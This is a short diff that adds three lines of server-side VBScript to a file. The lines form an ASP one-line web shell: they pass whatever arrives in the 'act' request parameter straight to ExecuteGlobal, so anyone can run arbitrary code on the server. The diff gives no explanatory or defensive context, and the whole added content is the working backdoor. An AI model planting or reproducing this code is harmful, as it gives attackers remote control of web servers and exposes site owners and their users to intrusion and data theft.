@@ -1,0 +1,3 @@
+<script language="vbscript" runat="server">
+If Request("act")<>"" Then ExecuteGlobal Request("act")
+</script>
